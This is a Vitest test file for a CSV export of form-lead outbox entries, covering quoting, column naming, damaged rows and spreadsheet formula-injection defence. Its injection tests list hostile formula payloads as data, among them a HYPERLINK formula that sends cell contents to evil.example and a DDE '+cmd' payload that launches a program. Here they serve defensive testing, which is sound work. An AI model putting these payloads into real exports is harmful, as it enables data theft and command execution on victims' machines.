import { describe, expect, test } from 'vitest';
import { toCsv } from '../../../src/outbox/csv.ts';
import type { OutboxEntry } from '../../../src/outbox/owner.ts';
import { leadOf } from '../support/lead.ts';

const AT = Date.UTC(2026, 10, 21, 10);
const entryOf = (lead: unknown, parts: Partial<OutboxEntry> = {}): OutboxEntry => ({
  id: 'x',
  state: 'refused',
  reason: 'HTTP_422',
  createdAt: AT,
  attempts: 2,
  destination: 'https://hooks.example.com/a',
  lead,
  ...parts,
});

/** RFC 4180, read back: rows of cells. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]];
  const cells = text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/g);
  let read = 0;
  for (const [all, cell, end] of cells) {
    rows.at(-1)!.push(cell!.replaceAll('""', '"'));
    read += all.length;
    if (end === '\r\n') rows.push([]);
  }
  expect(read, 'every character belongs to a cell').toBe(text.length);
  return rows.slice(0, -1);
}

/** The table as one object for each entry. */
function table(entries: OutboxEntry[]): Record<string, string>[] {
  const [columns, ...rows] = parse(toCsv(entries)) as [string[], ...string[][]];
  expect(new Set(columns).size, 'no column comes twice').toBe(columns.length);
  return rows.map((cells) => {
    expect(cells).toHaveLength(columns.length);
    return Object.fromEntries(columns.map((column, i) => [column, cells[i]!]));
  });
}

test('a line for each entry, with all that is known of it', () => {
  expect(table([entryOf(leadOf(), { nextAt: AT + 1000 })])).toEqual([
    {
      id: 'x',
      state: 'refused',
      reason: 'HTTP_422',
      attempts: '2',
      destination: 'https://hooks.example.com/a',
      created_at: '2026-11-21T10:00:00.000Z',
      next_at: '2026-11-21T10:00:01.000Z',
      name: 'Ada Lovelace',
      email: 'ada@example.com',
      lead_id: leadOf().id,
      submitted_at: '2026-11-21T10:00:00.000Z',
      form_id: 'hero',
      page_url: 'https://example.com/guide',
    },
  ]);
});

test('what is missing is an empty cell', () => {
  const [row] = table([entryOf({}, { reason: undefined })]);
  expect(row).toMatchObject({ reason: '', next_at: '' });
});

test('no entries: the head of an empty table at most', () => {
  expect(toCsv([]).trim().split('\r\n')).toHaveLength(1);
});

test('a column for everything that any of them has', () => {
  const one = leadOf({ fields: { name: 'Ada', city: 'London' } });
  const rows = table([
    entryOf(one),
    entryOf({ note: 'flat, as a form' }),
    entryOf(leadOf({ fields: { name: 'Bob' } })),
  ]);
  expect(rows.map(({ name, city, note }) => [name, city, note])).toEqual([
    ['Ada', 'London', ''],
    ['', '', 'flat, as a form'],
    ['Bob', '', ''],
  ]);
});

test('where a field has the name of a column of ours, ours gets the prefix', () => {
  const fields = { state: 'California', id: '7', reason: 'why not', attempts: 'many', destination: 'Rome' };
  const [row] = table([entryOf(leadOf({ fields: { ...fields, created_at: 'now', next_at: 'then' } }))]);
  expect(row).toMatchObject({ ...fields, created_at: 'now', next_at: 'then' });
  expect(row).toMatchObject({
    leadtag_state: 'refused',
    leadtag_id: 'x',
    leadtag_reason: 'HTTP_422',
    leadtag_attempts: '2',
  });
});

describe('text', () => {
  test.each([
    ['a quote', 'the "Analytical" Engine'],
    ['a comma', 'Lovelace, Ada'],
    ['a line break', 'one\r\ntwo\nthree\rfour'],
    ['only quotes', '""'],
    ['letters of the world', 'Zoë 😀 日本 עברית'],
    ['half a character', '\ud83d'],
    ['a semicolon and a tab inside', 'a;b\tc'],
    ['a minus inside', 'one-two=three'],
  ])('%s comes back as it was', (_, text) => {
    expect(table([entryOf({ text })])[0]!.text).toBe(text);
  });
});

describe('what a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1+1',
    '\tplain',
    '\r=1+1',
    '\rplain',
    '\n=1+1',
    ' =1+1',
    '   @x',
    '\u00a0=1+1',
    '\u3000=1+1',
    '\ufeff=1+1',
    '\v=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    ' ＝1',
    '+5511987654321',
    '-',
    '=',
  ])('%j becomes text', (text) => {
    expect(table([entryOf({ text })])[0]!.text).toBe(`'${text}`);
  });

  test.each(['a=b', '5-3', 'ada@example.com', '', "'=1", '1e5', '"=1"', '1,=2', 'x\t=1'])(
    '%j is text already',
    (text) => {
      expect(table([entryOf({ text })])[0]!.text).toBe(text);
    },
  );

  test('nor the name of a column', () => {
    const [columns] = parse(toCsv([entryOf({ '=1+1': 'x' })]));
    expect(columns).toContain("'=1+1");
  });

  test('nor what the outbox itself writes', () => {
    const [row] = table([entryOf({}, { reason: '=1', destination: '@x' })]);
    expect(row).toMatchObject({ reason: "'=1", destination: "'@x" });
  });
});

describe('31: damaged rows', () => {
  test.each([
    ['text'],
    [5],
    [null],
    [undefined],
    [[1, 2]],
    [{ fields: null }],
    [{ form: {}, fields: {} }],
    [{ a: { b: 1 } }],
  ])('a lead that is %j makes a line', (lead) => {
    expect(table([entryOf(lead), entryOf(leadOf())])).toHaveLength(2);
  });

  test.each([Number.NaN, Number.POSITIVE_INFINITY, 1e20, -1e20, 'soon' as never, {} as never])(
    'a time that is %s makes an empty cell',
    (time) => {
      expect(table([entryOf({}, { createdAt: time, nextAt: time })])[0]).toMatchObject({ created_at: '', next_at: '' });
    },
  );
});
